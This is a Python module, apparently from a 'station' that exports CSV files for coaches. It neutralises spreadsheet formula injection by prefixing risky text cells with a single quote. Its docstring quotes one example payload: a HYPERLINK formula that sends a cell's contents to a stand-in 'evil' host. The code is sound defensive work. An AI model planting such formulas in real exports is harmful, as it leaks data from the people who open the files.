"""CSV that a spreadsheet opens as data: OWASP's rule against formula injection.

Why: an exported text such as ``=HYPERLINK("http://evil/?"&A1,"open")`` becomes a live formula
when a coach opens the file in Excel or LibreOffice. A text cell that begins with ``= + - @``,
a tab or a carriage return gets a leading single quote, which spreadsheets show as text and
never run. Only text is changed: a negative number the station wrote as a number stays a
number. Every CSV the station writes goes through `writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, or for text that a spreadsheet would run, the text behind a single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Writer:
    """csv.writer whose text cells are neutralised (header included)."""

    def __init__(self, f: IO[str]) -> None:
        self._writer = csv.writer(f)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: IO[str]) -> _Writer:
    return _Writer(f)


def write_dicts(f: IO[str], fields: list[str], rows: Iterable[dict[str, Any]]) -> None:
    """Header and one line per dict (missing keys empty), like csv.DictWriter, neutralised."""
    out = writer(f)
    out.writerow(fields)
    out.writerows([row.get(k, "") for k in fields] for row in rows)
